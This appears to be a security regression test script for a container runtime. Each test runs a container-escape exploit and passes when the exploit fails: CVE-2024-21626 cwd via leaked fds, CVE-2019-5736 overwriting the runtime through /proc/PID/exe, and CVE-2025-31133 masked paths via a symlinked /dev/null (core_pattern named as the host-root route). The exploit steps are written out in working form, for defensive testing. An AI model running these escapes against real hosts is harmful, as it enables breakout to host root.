#!/bin/bash
# Ways out of the container, tried as an attacker inside it would: each test is the
# exploit, and passes when the exploit fails. runc resists every one of these.
#  - CVE-2024-21626: process.cwd through a leaked host directory fd (/proc/self/fd/N)
#  - host directory fds of a created-state init reachable through /proc/1/fd
#  - CVE-2019-5736: the host runtime binary rewritten through /proc/PID/exe, from the
#    created-state init and from `exec` of a `#!/proc/self/exe` script
#  - exec into a container without a mount namespace must enter its root too, and so must
#    exec by a runtime that runs in a chroot
#  - CVE-2025-31133: masked paths bound from a /dev/null that is not the null device
#  - no process.capabilities means no capabilities
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/oci-lib.sh"
BUSYBOX=$(command -v busybox) || skip_all "needs busybox (busybox-static)"
plan 18

PFX=sec$$
cleanup() {
	local c
	for c in $(rt list -q 2>/dev/null); do rt delete --force "$c"; done
}
at_exit cleanup
cd "$T" || exit 1

# bbundle DIR: a busybox rootfs (the exploits are shell scripts)
bbundle() {
	mkbundle "$1" || return 1
	mkdir -p "$1/rootfs/bin"
	cp "$BUSYBOX" "$1/rootfs/bin/busybox"
	for a in sh echo cat ls grep sleep usleep readlink test pwd mkfifo chmod; do
		ln -sf busybox "$1/rootfs/bin/$a"
	done
}
wait_status() { # wait_status ID STATUS
	for _ in $(seq 100); do
		[ "$(json_get "$(rt state "$1" 2>/dev/null)" status)" = "$2" ] && return 0
		sleep 0.05
	done
	return 1
}

B=$T/b
bbundle "$B"
cp "$B/config.json" "$T/good.json"

# --- CVE-2024-21626: cwd in a directory fd the runtime leaked into the init --------------
# Every fd the runtime may hold while the init is set up: --root, the state directory,
# exec.fifo, the bundle. A file created relative to such a cwd lands on the host.
for fd in 3 4 5 6 7 8 9; do
	cp "$T/good.json" "$B/config.json"
	cfg "$B" "c['process']['cwd']='/proc/self/fd/$fd'"
	args "$B" /bin/sh -c "echo x > escaped-cwd-$fd"
	rt run --bundle "$B" $PFX-cwd$fd >/dev/null 2>&1
done
left=$(find "$T" -name 'escaped-cwd-*' ! -path "$B/rootfs/*" 2>/dev/null)
assert_eq "$left" "" "process.cwd=/proc/self/fd/N does not reach a host directory"

# --- host directory fds of the created-state init --------------------------------------
cp "$T/good.json" "$B/config.json"
args "$B" /bin/sleep 1000
rt create --bundle "$B" $PFX-fd >/dev/null 2>&1
# shellcheck disable=SC2016
out=$(rt exec $PFX-fd /bin/sh -c 'for f in /proc/1/fd/*; do
	[ -d "$f/" ] || continue
	echo "dir fd $f -> $(readlink "$f")"
	echo x > "$f/escaped-procfd" 2>/dev/null && echo "wrote through $f"
done' 2>&1)
assert_eq "$out" "" "exec'd process finds no directory fd of the created-state init"
left=$(find "$T" /run -maxdepth 4 -name 'escaped-procfd' ! -path "$B/rootfs/*" 2>/dev/null)
assert_eq "$left" "" "and writes nothing on the host through /proc/1/fd"
rt delete --force $PFX-fd

# --- CVE-2019-5736 -----------------------------------------------------------------------
# Attack a copy of the runtime: if the exploit works, it is the copy that is rewritten.
RUNTIME=$CABIN # the binary under test (CABIN may name another build)
cp "$CABIN" "$T/cabin-copy"
CABIN=$T/cabin-copy
# the copy is dynamically linked: the container needs its libraries to run it
for lib in $(ldd "$CABIN" | grep -o '/[^ ]*'); do
	mkdir -p "$B/rootfs$(dirname "$lib")"
	cp -L "$lib" "$B/rootfs$lib"
done

# 1. /proc/1/exe of an init that waits in runtime code in the created state: open it
# read-only, wait until the init has exec'd (the file is no longer busy), write. Once with
# the default capabilities, once with CAP_SYS_PTRACE (which reaches non-dumpable processes).
for caps in default ptrace; do
	cp "$T/good.json" "$B/config.json"
	[ $caps = ptrace ] && cfg "$B" 'for k in ("bounding","effective","permitted"):
    c["process"]["capabilities"][k].append("CAP_SYS_PTRACE")'
	args "$B" /bin/sleep 1000
	rt create --bundle "$B" $PFX-exe >/dev/null 2>&1
	# shellcheck disable=SC2016
	rt exec -d $PFX-exe /bin/sh -c 'exec 5</proc/1/exe || exit 0
		i=0
		while [ $i -lt 60 ]; do
			echo PWNED >>/proc/self/fd/5 2>/dev/null && exit 0
			i=$((i + 1)); usleep 50000
		done' >/dev/null 2>&1
	sleep 0.3
	rt start $PFX-exe
	sleep 3.5
	ok "the created-state init's /proc/1/exe cannot rewrite the runtime binary ($caps capabilities)" \
		cmp -s "$CABIN" "$RUNTIME"
	rt delete --force $PFX-exe
	cp "$RUNTIME" "$CABIN"
done

# 2. exec of a `#!/proc/self/exe` script runs the runtime binary inside the container.
# The interpreter's --log is a fifo, so it waits until the attacker has opened its exe.
cp "$T/cabin-copy" "$T/cabin-copy2" # the first attack may have written the copy
CABIN=$T/cabin-copy2
printf '#!/proc/self/exe --log=/tmp/hold\n' >"$B/rootfs/evil"
chmod 755 "$B/rootfs/evil"
rm -f "$B/rootfs/tmp/hold" && mkfifo "$B/rootfs/tmp/hold"
rt run -d --bundle "$B" $PFX-sh >/dev/null 2>&1
rt exec -d $PFX-sh /evil >/dev/null 2>&1
# shellcheck disable=SC2016
out=$(timeout 20 "$RUNTIME" --root "$STATE" exec $PFX-sh /bin/sh -c 'pid=
	for p in /proc/[0-9]*; do
		e=$(readlink $p/exe) && [ "$e" != /bin/busybox ] && pid=${p#/proc/}
	done
	[ -n "$pid" ] || { echo "no runtime process found"; exit 0; }
	exec 5<"/proc/$pid/exe" || { echo "exe not readable"; exit 0; }
	cat /tmp/hold >/dev/null
	i=0
	while [ $i -lt 40 ]; do
		echo PWNED >>/proc/self/fd/5 2>/dev/null && { echo written; exit 0; }
		i=$((i + 1)); usleep 50000
	done
	echo "not writable"' 2>&1)
ok "exec of #!/proc/self/exe cannot rewrite the runtime binary ($out)" cmp -s "$CABIN" "$RUNTIME"
rt delete --force $PFX-sh
CABIN=$RUNTIME
rm -f "$T/cabin-copy" "$T/cabin-copy2"

# --- exec enters the root of a container without a mount namespace ---------------------
cp "$T/good.json" "$B/config.json"
cfg "$B" 'c["linux"]["namespaces"]=[n for n in c["linux"]["namespaces"] if n["type"]!="mount"]'
args "$B" /bin/sleep 1000
echo inside >"$B/rootfs/marker-$PFX"
rt run -d --bundle "$B" $PFX-nomnt >/dev/null 2>&1
assert_eq "$(rt exec $PFX-nomnt /init cat /marker-$PFX 2>&1)" inside \
	"exec without a mount namespace sees the container's root"
assert_eq "$(rt exec --cwd / $PFX-nomnt /init ls / 2>/dev/null | sort | tr '\n' ' ')" \
	"$(ls "$B/rootfs" | sort | tr '\n' ' ')" "and only the container's root"
rt delete --force $PFX-nomnt
rm -f "$B/rootfs/marker-$PFX"

# --- exec from a runtime that runs in a chroot --------------------------------------------
# The runtime's root is a mount below its mount namespace's top (a build chroot, a node
# image in a chroot). setns(CLONE_NEWNS) puts a process at the namespace's top root, which
# is then the host's / and not the container's: runc's exec lands there (`exec --cwd / ID
# ls /` lists the host). The chroot is a recursive bind of / in a mount namespace of the
# test's own, so the same paths work inside it.
cp "$T/good.json" "$B/config.json"
args "$B" /bin/sleep 1000
echo inside >"$B/rootfs/marker-$PFX"
mkdir -p "$T/chroot"
in_chroot() {
	unshare -m --propagation private sh -c 'mount --rbind / "$1" && shift && exec chroot "$@"' \
		sh "$T/chroot" "$T/chroot" "$@"
}
in_chroot "$CABIN" --root "$STATE" run -d --bundle "$B" $PFX-chr >/dev/null 2>&1
assert_eq "$(in_chroot "$CABIN" --root "$STATE" exec $PFX-chr /init cat /marker-$PFX 2>&1)" \
	inside "exec by a runtime in a chroot runs in the container's root"
assert_eq "$(in_chroot "$CABIN" --root "$STATE" exec --cwd / $PFX-chr /init ls / 2>/dev/null |
	sort | tr '\n' ' ')" "$(ls "$B/rootfs" | sort | tr '\n' ' ')" "and sees only the container's root"
in_chroot "$CABIN" --root "$STATE" delete --force $PFX-chr
rm -f "$B/rootfs/marker-$PFX"

# --- CVE-2025-31133: maskedPaths through a /dev/null that is not the null device ---------
# A /dev shared with something the attacker controls (a volume of another container, bound
# at /dev) can hold a symlink at /dev/null by the time the runtime masks: runc 1.1.5
# bind-mounts whatever /dev/null leads to over each masked path. With /dev/null ->
# /proc/sys/kernel/core_pattern a masked /proc file is a writable core_pattern (host
# root through the core dump handler); here the target is the harmless kernel.ostype.
mp=$(for f in /proc/timer_list /proc/keys /proc/sched_debug /proc/kcore; do
	[ -f "$f" ] && echo "$f" && break; done)
if [ -n "$mp" ]; then
	cp "$T/good.json" "$B/config.json"
	mkdir -p "$T/shareddev"
	ln -sfn /proc/sys/kernel/ostype "$T/shareddev/null"
	cfg "$B" 'c["mounts"]=[m for m in c["mounts"] if m["destination"]!="/dev"]
c["mounts"].insert(1,{"destination":"/dev","type":"bind","source":"'"$T/shareddev"'","options":["rbind"]})
c["linux"]["maskedPaths"]=["'"$mp"'"]'
	args "$B" /bin/cat "$mp"
	out=$(rt run --bundle "$B" $PFX-null 2>&1)
	rc=$?
	assert_not_contains "$out" Linux "a symlinked /dev/null is not what masked $mp shows"
	if [ $rc != 0 ]; then
		assert_contains "$out" "/dev/null" "  ... the run is refused, naming /dev/null"
	else
		ok "  ... the masked path is the null device" test -z "$out"
	fi
	rt delete --force $PFX-null 2>/dev/null
	rm -rf "$T/shareddev"
else
	skip "no file among the default masked paths in this host's /proc"
	skip "no file among the default masked paths in this host's /proc"
fi

# --- no process.capabilities: no capabilities at all (as runc) --------------------------
cp "$T/good.json" "$B/config.json"
cfg "$B" 'c["process"].pop("capabilities", None)'
args "$B" /bin/grep -E '^Cap(Inh|Prm|Eff|Bnd|Amb)' /proc/self/status
out=$(rt run --bundle "$B" $PFX-nocap 2>&1 | awk '{print $2}' | sort -u)
assert_eq "$out" 0000000000000000 "no process.capabilities: every capability set is empty"
args "$B" /bin/sleep 1000
rt run -d --bundle "$B" $PFX-nocap2 >/dev/null 2>&1
out=$(rt exec $PFX-nocap2 /bin/grep CapEff /proc/self/status 2>&1 | awk '{print $2}')
assert_eq "$out" 0000000000000000 "exec in it: no capabilities either"
rt delete --force $PFX-nocap2

# --- a shared, pre-existing cgroupsPath: never touch the host's processes in it ---------
cg_dirs() {
	# the file system type is the field after "-" (optional fields vary in number)
	awk '{ for (i = 7; i < NF; i++) if ($i == "-") break
		if ($(i + 1) == "cgroup" || $(i + 1) == "cgroup2") print $5 }' /proc/self/mountinfo | sort -u |
		while read -r m; do echo "$m/$1"; done
}
sh_cg=secshared$$
sleep 1000 &
hostpid=$!
for d in $(cg_dirs $sh_cg); do
	mkdir -p "$d" 2>/dev/null || continue
	[ -e "$d/cpuset.cpus" ] && cat "$(dirname "$d")/cpuset.cpus" >"$d/cpuset.cpus" &&
		cat "$(dirname "$d")/cpuset.mems" >"$d/cpuset.mems"
	echo $hostpid >"$d/cgroup.procs" 2>/dev/null
done
cg_cleanup() {
	kill $hostpid 2>/dev/null
	for d in $(cg_dirs $sh_cg); do
		[ -e "$d/freezer.state" ] && echo THAWED >"$d/freezer.state"
		rmdir "$d" 2>/dev/null
	done
}
at_exit cg_cleanup
cp "$T/good.json" "$B/config.json"
cfg "$B" "c['linux']['cgroupsPath']='/$sh_cg'"
args "$B" /bin/sleep 1000
rt run -d --bundle "$B" $PFX-shared >/dev/null 2>"$T/shared.err"
out=$(cat "$T/shared.err")
assert_contains "$out" "not empty" "create warns that the cgroup is not empty"
out=$(rt ps $PFX-shared 2>&1)
assert_not_contains " $(echo $out) " " $hostpid " "ps lists only the container's processes"
rt pause $PFX-shared >/dev/null 2>&1
fr=$(for d in $(cg_dirs $sh_cg); do cat "$d/freezer.state" "$d/cgroup.freeze" 2>/dev/null; done | tr '\n' ' ')
assert_not_contains "$fr" FROZEN "pause does not freeze the host's process with the container"
rt delete --force $PFX-shared >/dev/null 2>&1
rt delete --force $PFX-shared >/dev/null 2>&1
ok "delete --force (twice) leaves the host's process alive" kill -0 $hostpid

done_testing
